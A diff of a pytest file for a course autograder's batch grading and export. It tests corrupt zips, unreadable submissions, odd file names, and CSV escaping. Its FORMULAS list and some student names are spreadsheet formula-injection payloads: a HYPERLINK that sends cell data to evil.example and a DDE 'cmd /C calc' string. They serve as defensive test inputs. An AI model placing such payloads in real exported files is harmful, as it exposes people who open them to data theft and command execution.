@@ -16,10 +16,10 @@ from pathlib import Path
 
 import pytest
 import yaml
-from conftest import ROOT
+from conftest import ROOT, course_command
 
 from autograder.classgrading.batch import Progress, Settings, grade_batch
-from autograder.classgrading.gradebook import Gradebook, export
+from autograder.classgrading.gradebook import Gradebook, export, file_names
 from autograder.cli.validate import mistake_problem
 from autograder.execution import sandbox
 from autograder.grading.mistake_registry import all_mistakes, load_mistakes, write_mutant
@@ -134,16 +134,21 @@ def test_a_mixed_class_grades_to_the_expected_gradebook_and_resumes(course, tmp_
         assert db.execute("SELECT COUNT(*) FROM problems WHERE student = 'empty'").fetchone()[0] == 2
         stored = dict(db.execute("SELECT s.student, r.result FROM submissions s JOIN results r USING (key)"))
     assert {s: json.loads(r) for s, r in stored.items()} == {e.student: r for e, r in outcome.graded}
-    # exports: one CSV row per student, and per-student JSON and Gradescope results
-    export([(e.student, r) for e, r in outcome.graded], tmp_path / "out")
-    with open(tmp_path / "out/grades.csv", newline="") as table:
+    # exports: one CSV row per student (unreadable ones with 0 points and why), and per-student
+    # JSON and Gradescope results
+    export([(e.student, r) for e, r in outcome.graded], tmp_path / "out", [(e.student, e.problem) for e in outcome.problems])
+    with open(tmp_path / "out/grades.csv", newline="", encoding="utf-8-sig") as table:
         rows = list(csv.DictReader(table))
-    assert [r["student"] for r in rows] == list(expected)
+    assert [r["student"] for r in rows] == list(expected) + ["empty", "broken", "missing"]
     for row, (entry, result) in zip(rows, outcome.graded):
-        assert float(row["score"]) == result["score"]
+        assert float(row["score"]) == result["score"] and row["problem"] == ""
         assert float(row["a1_optimizers/sgd"]) == next(t["score"] for t in result["tasks"] if t["task"] == "sgd")
-        assert json.loads((tmp_path / f"out/results/{entry.student}.json").read_text()) == result
+        assert json.loads((tmp_path / f"out/results/{entry.student}.json").read_text()) == {"student": entry.student,
+                                                                                             **result}
         assert json.loads((tmp_path / f"out/gradescope/{entry.student}.json").read_text())["score"] == result["score"]
+    for row, entry in zip(rows[len(outcome.graded):], outcome.problems):
+        assert (float(row["score"]), float(row["a1_optimizers/sgd"]), row["problem"]) == (0, 0, entry.problem)
+        assert json.loads((tmp_path / f"out/results/{entry.student}.json").read_text())["problem"] == entry.problem
 
 
 def _graded_rows(book: Path) -> dict[str, str]:
@@ -205,3 +210,157 @@ def test_an_unreadable_zip_is_skipped_not_fatal(course, tmp_path, content, words
     outcome = grade_batch(course, [archive], SETTINGS)
     assert outcome.graded == [] and words in outcome.problems[0].problem
     assert not (tmp_path.parent / "escape").exists()
+
+
+HONEST = (ROOT / "solutions/a0_foundations/foundations.py").read_text()
+IN_PROCESS = Settings(("relu_forward",), "quick", isolated=False)
+
+
+def _corrupt_zip(archive: Path, kind: str) -> Path:
+    """A zip of a correct foundations.py whose member cannot be read: its compressed data garbled
+    (deflate: zlib.error, bzip2: OSError, lzma: LZMAError) or its method unknown (NotImplementedError)."""
+    method = {"deflate": zipfile.ZIP_DEFLATED, "bzip2": zipfile.ZIP_BZIP2, "lzma": zipfile.ZIP_LZMA}.get(kind, zipfile.ZIP_STORED)
+    with zipfile.ZipFile(archive, "w", method) as bundle:
+        bundle.writestr("foundations.py", HONEST)
+    data = bytearray(archive.read_bytes())
+    if kind == "method":
+        central = data.rfind(b"PK\x01\x02")
+        data[8:10] = data[central + 10:central + 12] = (99).to_bytes(2, "little")
+    else:
+        start = 30 + len("foundations.py")  # the only member's data follows its local header
+        data[start + 8:start + 40] = b"\xff" * 32
+    archive.write_bytes(bytes(data))
+    return archive
+
+
+@pytest.mark.parametrize("kind, words", [
+    ("deflate", "not a readable zip file (Error -3 while decompressing data"),
+    ("bzip2", "not a readable zip file (Invalid data stream)"),
+    ("lzma", "not a readable zip file (Corrupt input data)"),
+    ("method", "not a readable zip file (That compression method is not supported)"),
+    ("unreadable", "cannot be read (PermissionError: [Errno 13] Permission denied"),
+])
+def test_a_submission_that_cannot_be_read_is_its_problem_not_the_batch(course, tmp_path, monkeypatch, kind, words):
+    (tmp_path / "honest").mkdir()
+    (tmp_path / "honest/foundations.py").write_text(HONEST)
+    if kind == "unreadable":  # as if its owner had taken read permission away (the tests may run as root)
+        (tmp_path / "locked").mkdir()
+        (tmp_path / "locked/foundations.py").write_text(HONEST)
+        read_bytes = Path.read_bytes
+
+        def refuse(path):
+            if "locked" in path.parts:
+                raise PermissionError(13, "Permission denied", str(path))
+            return read_bytes(path)
+
+        monkeypatch.setattr(Path, "read_bytes", refuse)
+        bad = tmp_path / "locked"
+    else:
+        bad = _corrupt_zip(tmp_path / "bad.zip", kind)
+    book = tmp_path / "book.sqlite"
+    for run in range(2):  # the rerun goes on from the gradebook, as far as the first
+        gradebook = Gradebook(book)
+        outcome = grade_batch(course, [bad, tmp_path / "honest"], IN_PROCESS, gradebook=gradebook)
+        gradebook.close()
+        assert [(e.student, r["score"]) for e, r in outcome.graded] == [("honest", 1.0)]
+        assert outcome.reused == run
+        assert [e.student for e in outcome.problems] == [bad.stem] and words in outcome.problems[0].problem
+    with sqlite3.connect(book) as db:
+        assert db.execute("SELECT COUNT(*) FROM problems WHERE student = ?", (bad.stem,)).fetchone()[0] == 2
+
+
+def test_a_file_name_that_is_not_text_is_graded_and_shown_escaped(course, tmp_path):
+    folder = Path(os.fsdecode(str(tmp_path).encode() + b"/st\xffu\x1b[2Jdent"))  # undecodable byte, escape code
+    folder.mkdir()
+    (folder / "foundations.py").write_text(HONEST)
+    book = Gradebook(tmp_path / "book.sqlite")
+    outcome = grade_batch(course, [folder], IN_PROCESS, gradebook=book)
+    book.close()
+    [(entry, result)] = outcome.graded
+    assert entry.student == "st\\udcffu\\x1b[2Jdent" and result["score"] == 1.0
+    written = export([(entry.student, result)], tmp_path / "out")
+    assert (tmp_path / "out/results/st_udcffu_x1b[2Jdent.json") in written
+
+
+def _result(score: float) -> dict:
+    return {"score": score, "max_score": 1.0, "profile": "quick", "timing": {"seconds": 0.1}, "tasks": [
+        {"assignment": "a0_foundations", "task": "relu_forward", "score": score, "max_score": 1.0,
+         "status": "passed", "checks": []}]}
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "@SUM(1+9)*cmd|' /C calc'!A0", "+1+1", "-2+3",
+            "\t=1+1", "\r=1+1"]
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_escaped_and_numbers_stay_numbers(tmp_path):
+    export([(name, _result(-1.5)) for name in FORMULAS], tmp_path, [("=cmd|' /C calc'!A0", "=1+1 broken")])
+    raw = (tmp_path / "grades.csv").read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf")  # utf-8-sig: Excel reads the names as UTF-8
+    with open(tmp_path / "grades.csv", newline="", encoding="utf-8-sig") as table:
+        rows = list(csv.reader(table))[1:]
+    # a leading tab or carriage return is shown as a visible escape, which no spreadsheet runs
+    assert [r[0] for r in rows] == ["'" + name for name in FORMULAS[:4]] + ["\\x09=1+1", "\\x0d=1+1",
+                                                                          "'=cmd|' /C calc'!A0"]
+    assert all(r[1] == "-1.5" and r[3] == "-1.5" for r in rows[:-1])  # a negative number is a number
+    assert rows[-1][1:] == ["0.0", "1.0", "0.0", "'=1+1 broken"]
+    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "@", "\t", "\r"))
+                or cell.startswith("-") and cell != "-1.5"]
+
+
+def test_export_file_names_keep_every_script_and_never_collapse(tmp_path):
+    students = ["김민수", "박지훈", "이영희", "Zoë", "a/b", "a:b", "Alice", "alice", "", "???", "CON", ".hidden",
+                "\u1100\u1161"]  # the last: 가 in decomposed form (as macOS file names have it)
+    names = file_names(students)
+    assert names[:4] == ["김민수", "박지훈", "이영희", "Zoë"] and names[10:12] == ["_CON", "hidden"]
+    assert len({n.casefold() for n in names}) == len(students)  # distinct, even on a case-blind file system
+    assert names[4].startswith("a_b-") and names[6].startswith("Alice-") and names[8].startswith("student-")
+    assert names[12] == "가"
+    # stable: the same names in any order; only a clash changes a name, the fallback never
+    assert file_names(list(reversed(students))) == list(reversed(names))
+    assert file_names(["a/b", "x"])[0] == "a_b" and file_names(["", "x"])[0] == names[8]
+    export([(s, _result(1.0)) for s in students], tmp_path)
+    for student, name in zip(students, names):
+        assert json.loads((tmp_path / "results" / f"{name}.json").read_text())["student"] == student
+
+
+def test_a_class_with_a_corrupt_zip_formula_and_korean_names_is_graded_and_exported_whole(course, tmp_path):
+    """`course grade class/* --export`: everyone gets a CSV row and a result file of their own,
+    the honest are graded as they deserve, and the rerun does the same from the gradebook."""
+    wrong_relu = HONEST.replace("return np.where(x > 0, x, 0).astype(x.dtype, copy=False), x.copy()",
+                                "return np.abs(x), x.copy()")
+    assert wrong_relu != HONEST
+    root = tmp_path / "class"
+    students = {"김민수": HONEST, "이영희": wrong_relu, '=HYPERLINK("evil.example","click")': HONEST}
+    for name, source in students.items():
+        (root / name).mkdir(parents=True)
+        (root / name / "foundations.py").write_text(source)
+    with zipfile.ZipFile(root / "박지훈.zip", "w") as bundle:
+        bundle.writestr("submission/foundations.py", HONEST)
+    with zipfile.ZipFile(root / "@SUM(1+9)*cmd|calc.zip", "w") as bundle:
+        bundle.writestr("foundations.py", HONEST)
+    _corrupt_zip(root / "corrupt.zip", "deflate")
+    paths = sorted(root.iterdir())
+    out, book = tmp_path / "export", tmp_path / "book.sqlite"
+    command = ["grade", *paths, "--only", "relu_forward", "sigmoid_forward", "--quick", "--jobs", "1",
+               "--gradebook", book, "--export", out, "--format", "json", "--out", tmp_path / "results.json"]
+    for run in range(2):
+        ran = course_command(*command)
+        assert ran.returncode == 0, ran.stderr
+        assert ran.stderr.count("(already graded)") == 5 * run
+        with open(out / "grades.csv", newline="", encoding="utf-8-sig") as table:
+            rows = {row["student"]: row for row in csv.DictReader(table)}
+        assert set(rows) == {"김민수", "이영희", "박지훈", "'=HYPERLINK(\"evil.example\",\"click\")",
+                             "'@SUM(1+9)*cmd|calc", "corrupt"}
+        scores = {name: (float(r["score"]), r["a0_foundations/relu_forward"], r["problem"][-60:])
+                  for name, r in rows.items()}
+        assert scores["김민수"] == scores["박지훈"] == scores["'@SUM(1+9)*cmd|calc"] == (3.0, "1.0", "")
+        assert scores["이영희"] == (2.5, "0.5", "")  # |x| for relu: wrong values, but pure
+        assert scores["corrupt"][:2] == (0.0, "0.0") and "Error -3 while decompressing data" in rows["corrupt"]["problem"]
+        files = sorted(p.name for p in (out / "results").iterdir())
+        assert files == sorted(["김민수.json", "이영희.json", "박지훈.json", "=HYPERLINK(_evil.example_,_click_).json",
+                                "@SUM(1+9)_cmd_calc.json", "corrupt.json"])
+        named = {json.loads((out / "results" / f).read_text())["student"] for f in files}
+        assert named == {"김민수", "이영희", "박지훈", '=HYPERLINK("evil.example","click")', "@SUM(1+9)*cmd|calc", "corrupt"}
+        assert len(list((out / "gradescope").iterdir())) == 6
+    listed = json.loads((tmp_path / "results.json").read_text())["submissions"]
+    assert [s["student"] for s in listed] == [p.name.removesuffix(".zip") for p in paths if p.name != "corrupt.zip"]
